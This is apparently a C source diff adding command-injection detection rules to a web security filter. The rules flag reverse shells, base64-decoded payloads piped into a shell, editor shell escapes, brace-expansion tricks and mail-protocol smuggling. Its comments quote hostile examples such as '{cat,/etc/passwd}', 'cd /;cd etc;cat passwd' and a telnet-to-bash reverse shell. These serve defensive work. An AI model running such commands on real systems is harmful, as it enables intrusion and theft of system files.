+static int wsg_glob_path(const char *s, size_t b, size_t e)
+{
+	int evidence = 0, comps = 0;
+
+	for (size_t i = b + 1; i <= e;) {
+		size_t c = i, depth = 0, glob = 0, stars = 0;
+
+		while (c < e && (s[c] != '/' || depth)) {
+			if (s[c] == '[' && !depth) {
+				const char *close = memchr(s + c, ']', e - c);
+
+				if (close && memchr(s + c, '/', (size_t)(close - s) - c))
+					return 1;
+				depth = close != NULL;
+				glob++;
+			} else if (s[c] == ']') {
+				depth = 0;
+			} else if (s[c] == '?' || s[c] == '*') {
+				glob++;
+				stars += s[c] == '*';
+			}
+			c++;
+		}
+		comps++;
+		if (glob) {
+			if (c - i < 2 || (stars == c - i) || !wsg_glob_names(s + i, c - i))
+				return 0;
+			if (!(c == e && glob == 1 && stars == 1 && s[c - 1] == '*'))
+				evidence = 1;
+		}
+		i = c + 1;
+	}
+	return evidence && (comps > 1 || s[b + 1] == '[');
+}
+
+/* rce-009: an absolute path with glob characters that stands for a system path. */
+static int wsg_cmdi_glob(const char *s, size_t len, struct wsg_hit *h)
+{
+	for (size_t i = 0; i < len; i++) {
+		size_t e = i;
+		int glob = 0;
+
+		if (s[i] != '/' || (i && !wsg_is_space((unsigned char)s[i - 1]) &&
+				    !strchr("+;|&=('\"`<>{,", s[i - 1])))
+			continue;
+		while (e < len && !wsg_is_space((unsigned char)s[e]) &&
+		       !strchr("+;|&'\"`<>(),}", s[e])) {
+			glob |= s[e] == '?' || s[e] == '*' || s[e] == '[';
+			e++;
+		}
+		if (glob && wsg_glob_path(s, i, e))
+			return wsg_cmdi_hit(h, 8, i);
+		i = e;
+	}
+	return 0;
+}
+
+/* The shell command positions of s: its start and after every separator, in order. */
+static size_t wsg_cmd_next(const char *s, size_t len, size_t i)
+{
+	while (i < len) {
+		size_t sep = wsg_cmd_sep(s, len, i);
+
+		if (sep)
+			return i + sep;
+		if (s[i] == '\\' && i + 1 < len && s[i + 1] == 'n')
+			return i + 2;
+		i++;
+	}
+	return len;
+}
+
+/* Skip blanks and literal "\n" at s[i]. */
+static size_t wsg_skip_breaks(const char *s, size_t len, size_t i)
+{
+	for (;;) {
+		i = wsg_skip_space(s, len, i);
+		if (i + 1 < len && s[i] == '\\' && (s[i + 1] == 'n' || s[i + 1] == 'r'))
+			i += 2;
+		else
+			return i;
+	}
+}
+
+/* The word at s[i] is w (a whole word: a blank, separator or the end after it). */
+static int wsg_cmd_is(const char *s, size_t len, size_t i, const char *w)
+{
+	size_t n = strlen(w);
+
+	return i + n <= len && !memcmp(s + i, w, n) &&
+	       (i + n == len || wsg_is_space((unsigned char)s[i + n]) ||
+		strchr(";|&\\", s[i + n]));
+}
+
+/*
+ * rce-011, vi/vim/ex run with a shell escape: "vim -c ':!id'", "ex +silent\ \!whoami":
+ * a '!' before a known command in the editor's arguments. Only after a separator: "vim x,
+ * then :!ls" is advice.
+ */
+static int wsg_cmdi_editor(const char *s, size_t len, size_t i)
+{
+	static const char *const eds[] = { "vi", "vim", "ex", "view", "nvim", "rvim", "vimdiff",
+					   NULL };
+	size_t e = i;
+
+	while (e < len && wsg_is_alpha((unsigned char)s[e]))
+		e++;
+	if (wsg_in_list(eds, s + i, e - i) < 0 || (e < len && !wsg_is_space((unsigned char)s[e])))
+		return 0;
+	for (size_t k = e; k < len && s[k] != ';' && s[k] != '|' && s[k] != '&'; k++) {
+		size_t end;
+
+		/* ":!" and "\\!" are anchors */
+		if (s[k] == '!' && k > 0 && (s[k - 1] == ':' || s[k - 1] == '\\') &&
+		    (wsg_cmd_at(s, len, k + 1, &end) >= 0 ||
+				    wsg_in_list(wsg_recon, s + k + 1, end - k - 1) >= 0))
+			return 1;
+	}
+	return 0;
+}
+
+/* rce-011, SQLite shell dot commands after a separator: ";\n.shell id", ";.\"system ls". */
+static int wsg_cmdi_dotcmd(const char *s, size_t len, size_t i)
+{
+	static const char *const dot[] = { "shell", "system", "databases", "tables", "dump",
+		"import", "output", "once", "read", "load", "schema", "open", NULL };
+	size_t e;
+	int k;
+
+	if (i >= len || s[i] != '.')
+		return 0;
+	i = wsg_skip_space(s, len, i + 1);
+	while (i < len && (s[i] == '\\' || s[i] == '"' || s[i] == '\''))
+		i++;
+	for (e = i; e < len && wsg_is_alpha((unsigned char)s[e]);)
+		e++;
+	k = wsg_in_list(dot, s + i, e - i);
+	if (k < 0 || (e < len && !wsg_is_space((unsigned char)s[e]) && s[e] != '\\'))
+		return 0;
+	/* .shell and .system need the command they run */
+	return k > 1 || wsg_skip_space(s, len, e) < len;
+}
+
+/*
+ * "cd /;cd etc;cat passwd": a path assembled by changing into each directory in turn, two
+ * or more cds in a row ending in a system directory, then a command.
+ */
+static int wsg_cmdi_cdchain(const char *s, size_t len, size_t i)
+{
+	static const char *const dirs[] = { "/", "etc", "/etc", "bin", "/bin", "var", "/var",
+		"usr", "/usr", "root", "/root", "proc", "/proc", "tmp", "/tmp", "..", "../", NULL };
+	int cds = 0, sys = 0;
+
+	for (;;) {
+		size_t e;
+
+		i = wsg_skip_breaks(s, len, i);
+		if (!wsg_cmd_is(s, len, i, "cd"))
+			break;
+		i = wsg_skip_space(s, len, i + 2);
+		e = i;
+		while (e < len && !wsg_is_space((unsigned char)s[e]) && !wsg_cmd_sep(s, len, e))
+			e++;
+		sys = wsg_in_list(dirs, s + i, e - i) >= 0;
+		if (e == i)
+			return 0;
+		cds++;
+		i = wsg_skip_space(s, len, e);
+		if (i >= len || s[i] != ';')	/* "; " and ";<letter>" are anchors */
+			break;
+		i++;
+	}
+	return cds >= 2 && sys && i < len && s[i - 1] == ';' &&
+	       wsg_is_alpha((unsigned char)s[wsg_skip_space(s, len, i)]);
+}
+
+/* Drop unset variables of one or two letters inside a word ("n$u\\c$u"); the new length. */
+static size_t wsg_drop_vars(char *w, size_t n)
+{
+	size_t o = 0;
+
+	for (size_t i = 0; i < n; i++) {
+		size_t e = i + 1;
+
+		while (e < n && wsg_is_word((unsigned char)w[e]))
+			e++;
+		if (w[i] == '$' && o > 0 && e > i + 1 && e - i - 1 <= 2 &&
+		    wsg_is_alpha((unsigned char)w[i + 1])) {
+			i = e - 1;
+			continue;
+		}
+		w[o++] = w[i];
+	}
+	w[o] = 0;
+	return o;
+}
+
+/*
+ * "{cat,/etc/passwd}", "c{a,oun}t", "{l,-lh}s": the word at s[i] holds a brace list whose
+ * first expansion (prefix, first item, suffix) is a command.
+ */
+static int wsg_cmdi_brace(const char *s, size_t len, size_t i)
+{
+	const char *open, *comma, *close, *item;
+	char word[32], cmd[32];
+	size_t e = i, n, o = 0;
+	int hidden;
+
+	while (e < len && !wsg_is_space((unsigned char)s[e]) && s[e] != ';' && s[e] != '|' &&
+	       s[e] != '&')
+		e++;
+	open = memchr(s + i, '{', e - i);
+	if (!open || open > s + i + 8)
+		return 0;
+	close = memchr(open, '}', (size_t)(s + e - open));
+	comma = memchr(open, ',', (size_t)(s + e - open));
+	/* the item starts with a letter, a '/' or is empty: "{a", "{/", "{," are anchors ("{k"
+	 * is none: IRC nicks) */
+	if (!close || !comma || comma > close || open[1] == 'k' ||
+	    !(wsg_is_alpha((unsigned char)open[1]) || open[1] == '/' || open[1] == ','))
+		return 0;
+	item = open + 1;
+	/* "{,ifconfig,eth0}": an empty item is no word; $"whoami" is locale quoting */
+	if (item == comma && open == s + i) {
+		item = comma + 1;
+		comma = memchr(item, ',', (size_t)(close - item));
+		if (!comma)
+			return 0;
+	}
+	if (*item == '$' && (item[1] == '"' || item[1] == '\''))
+		item++;
+	n = (size_t)(open - s) - i;	/* prefix */
+	memcpy(word, s + i, n);
+	o = n;
+	n = (size_t)(comma - item);	/* first item */
+	if (o + n >= sizeof(word))
+		return 0;
+	memcpy(word + o, item, n);
+	o += n;
+	n = (size_t)(s + e - close) - 1;	/* suffix */
+	if (o + n >= sizeof(word))
+		return 0;
+	memcpy(word + o, close + 1, n);
+	o += n;
+	o = wsg_drop_vars(word, o);
+	if (wsg_cmd_clean(word, o, 0, cmd, sizeof(cmd), &hidden) != o || !cmd[0])
+		return 0;
+	return wsg_in_list(wsg_cmds, cmd, strlen(cmd)) >= 0 ||
+	       wsg_in_list(wsg_recon, cmd, strlen(cmd)) >= 0 || !strcmp(cmd, "cd");
+}
+
+/*
+ * At a command position s[i]: "<(cat file)", ">(tee log)", a process substitution run as
+ * the command ("diff <(ls a) <(ls b)" passes it as an argument); "$[2+2]" arithmetic.
+ */
+static int wsg_cmdi_procsub(const char *s, size_t len, size_t i)
+{
+	size_t end, j = i + 2;
+	int op = 0;
+
+	if (i + 2 >= len)
+		return 0;
+	if ((s[i] == '<' || s[i] == '>') && s[i + 1] == '(')
+		return wsg_cmd_at(s, len, i + 2, &end) >= 0 && memchr(s + end, ')', len - end);
+	if (s[i] != '$' || s[i + 1] != '[')
+		return 0;
+	for (; j < len && (wsg_is_digit((unsigned char)s[j]) || strchr("+-*/%() ", s[j])); j++)
+		op |= !wsg_is_digit((unsigned char)s[j]) && s[j] != ' ';
+	return op && j < len && s[j] == ']';
+}
+
+/* A Windows administration tool at s[i] ("bcdboot/r", "diskpart.exe <x"). */
+static int wsg_cmdi_wintool(const char *s, size_t len, size_t i)
+{
+	static const char *const tools[] = { WSG_WINTOOLS, NULL };
+	size_t e = i;
+
+	while (e < len && wsg_is_alpha((unsigned char)s[e]))
+		e++;
+	if (wsg_in_list(tools, s + i, e - i) < 0)
+		return 0;
+	if (e + 4 <= len && !memcmp(s + e, ".exe", 4))
+		e += 4;
+	return e == len || wsg_is_space((unsigned char)s[e]) || strchr("/<>|&;", s[e]);
+}
+
+/*
+ * "printf ...|base64 -d|sh": a decoded payload piped into a shell; the pipe and the shell
+ * are glued or one blank apart ("|s", "| sh", "| bash" are anchors).
+ */
+static int wsg_cmdi_b64sh(const char *s, size_t len, size_t i)
+{
+	static const char *const sh[] = { "sh", "bash", "zsh", "dash", "ksh", NULL };
+	const char *bar;
+	size_t j = i + 6, e;
+
+	if (!wsg_cmd_is(s, len, i, "base64"))
+		return 0;
+	j = wsg_skip_space(s, len, j);
+	if (!(wsg_cmd_is(s, len, j, "-d") || wsg_cmd_is(s, len, j, "--decode") ||
+	      wsg_cmd_is(s, len, j, "-di")))
+		return 0;
+	bar = memchr(s + j, '|', len - j);
+	if (!bar)
+		return 0;
+	j = (size_t)(bar - s) + 1;
+	if (j < len && s[j] == ' ')
+		j++;
+	for (e = j; e < len && wsg_is_alpha((unsigned char)s[e]);)
+		e++;
+	return wsg_in_list(sh, s + j, e - j) >= 0 &&
+	       (e == len || !wsg_is_word((unsigned char)s[e]));
+}
+
+/*
+ * ";$a cat $a/etc/passwd": unset variables as the first words, then a command. After ';' or
+ * '|' glued, "; " or "&&"/"||" (anchors), never at the value start.
+ */
+static int wsg_cmdi_after_vars(const char *s, size_t len, size_t i, size_t j)
+{
+	size_t end;
+	int vars = 0;
+
+	if (i == 0 || j > i + 1 || (j == i + 1 && s[i] != ' ') ||
+	    !(s[i - 1] == ';' || (s[i - 1] == '|' && s[i] == '$') ||
+	      (i > 1 && (s[i - 2] == '&' || s[i - 2] == '|') && s[i - 1] == s[i - 2])))
+		return 0;
+	while (j + 2 < len && s[j] == '$' && wsg_is_alpha((unsigned char)s[j + 1])) {
+		size_t e = j + 1;
+
+		while (e < len && wsg_is_word((unsigned char)s[e]))
+			e++;
+		if (e - j > 3 || e >= len || s[e] != ' ')
+			return 0;
+		vars++;
+		j = wsg_skip_space(s, len, e);
+	}
+	return vars && wsg_cmd_at(s, len, j, &end) >= 0;
+}
+
+/*
+ * rce-011/012 at every command position: an editor shell escape, a SQLite dot command, a cd
+ * chain, a compiler -wrapper that runs a shell, a brace expansion whose first word is a
+ * command ("{cat,/etc/passwd}", "c{a,oun}t"), process substitution of a command.
+ */
+static int wsg_cmdi_positions(const char *s, size_t len, struct wsg_hit *h)
+{
+	const char *p = memmem(s, len, "-wrapper", 8);
+
+	if (p) {
+		size_t i = wsg_skip_space(s, len, (size_t)(p - s) + 8);
+
+		if ((wsg_cmd_is(s, len, i, "sh") || i + 3 <= len) &&
+		    (!memcmp(s + i, "sh,", 3) || !memcmp(s + i, "bash,", 5) ||
+		     !memcmp(s + i, "/bin/sh,", 8)))
+			return wsg_cmdi_hit(h, 10, (size_t)(p - s));
+	}
+	for (size_t i = 0; i < len; i = wsg_cmd_next(s, len, i)) {
+		size_t j = wsg_skip_breaks(s, len, i);
+
+		/* after ";" then " ", "\\n" or the dot itself: "; ", ";\\", ";." are anchors */
+		if (i > 0 && s[i - 1] == ';' && i < len && strchr(" \\.", s[i]) &&
+		    wsg_cmdi_dotcmd(s, len, j))
+			return wsg_cmdi_hit(h, 10, j);
+		while (j < len && (s[j] == '\'' || s[j] == '"'))
+			j++;
+		if ((i > 0 && wsg_cmdi_editor(s, len, j)) || wsg_cmdi_cdchain(s, len, j))
+			return wsg_cmdi_hit(h, 10, j);
+		/* ... or "!-1", a history expansion ("!-" is an anchor) */
+		if (wsg_cmdi_brace(s, len, j) || wsg_cmdi_procsub(s, len, j) ||
+		    (j + 2 < len && s[j] == '!' && s[j + 1] == '-' &&
+		     wsg_is_digit((unsigned char)s[j + 2])))
+			return wsg_cmdi_hit(h, 11, j);
+		if (wsg_cmdi_after_vars(s, len, i, j))
+			return wsg_cmdi_hit(h, 8, j);
+		if ((i > 0 && wsg_cmdi_wintool(s, len, j)) || wsg_cmdi_b64sh(s, len, j))
+			return wsg_cmdi_hit(h, 0, j);
+		if (i == len)
+			break;
+	}
+	return 0;
+}
+
+/*
+ * rce-013: bash's /dev/tcp/host/port and awk's /inet/tcp/... sockets; a network client
+ * whose output is piped into a shell ("telnet x 4444 | /bin/bash | telnet x 4445").
+ */
+static int wsg_cmdi_revshell(const char *s, size_t len, struct wsg_hit *h)
+{
+	static const char *const sock[] = { "/dev/tcp/", "/dev/udp/", "/inet/tcp/", "/inet/udp/",
+					    NULL };
+	static const char *const net[] = { "nc", "ncat", "netcat", "telnet", "socat", NULL };
+	static const char *const sh[] = { "sh", "bash", "zsh", "dash", "ksh", NULL };
+
+	for (int k = 0; sock[k]; k++) {
+		const char *p = memmem(s, len, sock[k], strlen(sock[k]));
+		size_t i = p ? (size_t)(p - s) + strlen(sock[k]) : len;
+
+		if (i < len && (wsg_is_word((unsigned char)s[i]) || s[i] == '['))
+			return wsg_cmdi_hit(h, 12, (size_t)(p - s));
+	}
+	for (size_t i = 0; i < len; i = wsg_cmd_next(s, len, i)) {
+		size_t j, e, te;
+		const char *bar;
+
+		i = wsg_skip_space(s, len, i);
+		for (e = i; e < len && wsg_is_word((unsigned char)s[e]);)
+			e++;
+		/* a host, an address or a flag after the client */
+		j = wsg_skip_space(s, len, e);
+		for (te = j; te < len && !wsg_is_space((unsigned char)s[te]);)
+			te++;
+		if (wsg_in_list(net, s + i, e - i) >= 0 && j < len &&
+		    (wsg_is_digit((unsigned char)s[j]) || s[j] == '-' ||
+		     memchr(s + j, '.', te - j)) &&
+		    (bar = memchr(s + e, '|', len - e))) {
+			size_t b = (size_t)(bar - s) + 1, n, end;
+
+			/* "| /bin/", "|/", "| sh", "|s" are anchors */
+			b += b < len && s[b] == ' ';
+			n = wsg_cmd_word(s, len, b, &j, &end);
+			if (n && wsg_in_list(sh, s + j, n) >= 0)
+				return wsg_cmdi_hit(h, 12, b);
+		}
+		if (i == len)
+			break;
+	}
+	return 0;
+}
+
 static int wsg_cmdi_misc(const char *s, size_t len, struct wsg_hit *h)
 {
 	const char *p = memmem(s, len, "()", 2);
@@ -619,9 +1447,15 @@ static int wsg_cmdi_misc(const char *s, size_t len, struct wsg_hit *h)
 				return wsg_cmdi_hit(h, 3, (size_t)(p - s));
 		}
 	}
+	/* "$(($() 42))", "c$()at": an empty command substitution glued to a word */
+	for (p = memmem(s, len, "$()", 3); p;
+	     p = memmem(p + 3, len - (size_t)(p + 3 - s), "$()", 3))
+		if ((p > s && (p[-1] == '(' || wsg_is_word((unsigned char)p[-1]))) ||
+		    (p + 3 < s + len && wsg_is_word((unsigned char)p[3])))
+			return wsg_cmdi_hit(h, 8, (size_t)(p - s));
 	if ((p = memmem(s, len, "$ifs", 4)) || (p = memmem(s, len, "${ifs", 5)))
 		return wsg_cmdi_hit(h, 4, (size_t)(p - s));
-	if ((p = memmem(s, len, "{,", 2)) || (p = memmem(s, len, "${path:", 7)))
+	if ((p = memmem(s, len, "${path:", 7)))
 		return wsg_cmdi_hit(h, 4, (size_t)(p - s));
 	return 0;
 }
@@ -643,11 +1477,92 @@ static int wsg_cmdi_spawn(const char *s, size_t len, struct wsg_hit *h)
 
 			/* an argument that is a string or a variable, or phpinfo() */
 			if (a < len && (s[a] == '\'' || s[a] == '"' || s[a] == '$' || s[a] == '`' ||
-					(s[a] == ')' && !memcmp(s + b, "phpinfo", 7))))
+					(s[a] == ')' && !memcmp(s + b, "php", 3))))
 				return wsg_cmdi_hit(h, 5, b);
 		}
 		if (p + 1 >= s + len)
 			break;
+	}
+	return 0;
+}
+
+/* The end of the line at s[i]: a raw CR or LF, or a literal "\\r" or "\\n". */
+static size_t wsg_line_end(const char *s, size_t len, size_t i)
+{
+	while (i < len && s[i] != '\r' && s[i] != '\n' &&
+	       !(s[i] == '\\' && i + 1 < len && (s[i + 1] == 'r' || s[i + 1] == 'n')))
+		i++;
+	return i;
+}
+
+#define WSG_MAIL_ANCHORED 6
+
+/*
+ * One mail protocol command line s[i..e): an SMTP or POP3 verb with its arguments, or an
+ * IMAP tag and command. The argument counts keep prose after a line break out. Unless all
+ * is set only the verbs that are anchors count (the CRLF itself is none when raw).
+ */
+static int wsg_mail_line(const char *s, size_t i, size_t e, int all)
+{
+	static const struct { const char *verb; int min, max; } smtp[] = {
+		{ "rcpt to:", 0, 1 }, { "mail from:", 0, 1 }, { "ehlo", 1, 1 }, { "vrfy", 1, 1 },
+		{ "expn", 1, 1 }, { "apop", 2, 2 },
+		/* the verbs below need all */
+		{ "helo", 1, 1 }, { "help", 0, 1 }, { "data", 0, 0 },
+		{ "rset", 0, 0 }, { "noop", 0, 0 }, { "quit", 0, 0 }, { "starttls", 0, 0 },
+		{ "user", 1, 1 }, { "pass", 1, 1 }, { "retr", 1, 1 },
+		{ "dele", 1, 1 }, { "stat", 0, 0 }, { "uidl", 0, 1 }, { "top", 2, 2 },
+		{ "capa", 0, 0 }, { "auth", 1, 2 },
+	};
+	static const char *const imap[] = { "capability", "noop", "logout", "starttls",
+		"authenticate", "login", "select", "examine", "create", "delete", "rename",
+		"subscribe", "unsubscribe", "list", "lsub", "status", "append", "check", "close",
+		"expunge", "search", "fetch", "store", "copy", "move", "uid", "idle", "quit",
+		"getquotaroot", "setacl", NULL };
+	size_t t = i;
+
+	for (size_t k = 0; k < sizeof(smtp) / sizeof(smtp[0]); k++) {
+		size_t n = strlen(smtp[k].verb);
+		int w;
+
+		if (i + n > e || memcmp(s + i, smtp[k].verb, n) ||
+		    (i + n < e && wsg_is_word((unsigned char)s[i + n])))
+			continue;
+		w = wsg_count_words(s, i + n, e);
+		return (all || k < WSG_MAIL_ANCHORED) && w >= smtp[k].min && w <= smtp[k].max;
+	}
+	if (!all)
+		return 0;
+	/* IMAP: a tag of letters and digits (a001, a1, d) and a command */
+	while (t < e && wsg_is_word((unsigned char)s[t]))
+		t++;
+	if (t == i || t - i > 8 || t >= e || s[t] != ' ')
+		return 0;
+	i = t + 1;
+	while (t + 1 < e && wsg_is_alpha((unsigned char)s[t + 1]))
+		t++;
+	return wsg_in_list(imap, s + i, t + 1 - i) >= 0 && (t + 1 == e || s[t + 1] == ' ');
+}
+
+/* rce-010: a line after a CRLF (raw or literal "\\r\\n") that is a mail protocol command. */
+static int wsg_cmdi_mail(const char *s, size_t len, struct wsg_hit *h)
+{
+	for (size_t i = 0; i + 1 < len; i++) {
+		size_t b, e;
+
+		int typed = 0;
+
+		if (s[i] == '\r' && s[i + 1] == '\n')
+			b = i + 2;
+		else if (i + 3 < len && !memcmp(s + i, "\\r\\n", 4))
+			b = i + 4, typed = 1;
+		else
+			continue;
+		e = wsg_line_end(s, len, b);
+		while (e > b && wsg_is_space((unsigned char)s[e - 1]))
+			e--;
+		if (e > b && wsg_mail_line(s, b, e, typed))
+			return wsg_cmdi_hit(h, 9, b);
 	}
 	return 0;
 }
@@ -657,5 +1572,7 @@ int wsg_detect_cmdi(const struct wsg_text *t, struct wsg_hit *h)
 	return wsg_cmdi_spawn(t->s, t->len, h) || wsg_cmdi_start(t->s, t->len, h) ||
 	       wsg_cmdi_batch(t->s, t->len, h) || wsg_cmdi_value(t->s, t->len, h) ||
 	       wsg_cmdi_subst(t->s, t->len, h) ||
-	       wsg_cmdi_chain(t->s, t->len, h) || wsg_cmdi_misc(t->s, t->len, h);
+	       wsg_cmdi_chain(t->s, t->len, h) || wsg_cmdi_misc(t->s, t->len, h) ||
+	       wsg_cmdi_mail(t->s, t->len, h) || wsg_cmdi_glob(t->s, t->len, h) ||
+	       wsg_cmdi_positions(t->s, t->len, h) || wsg_cmdi_revshell(t->s, t->len, h);
 }
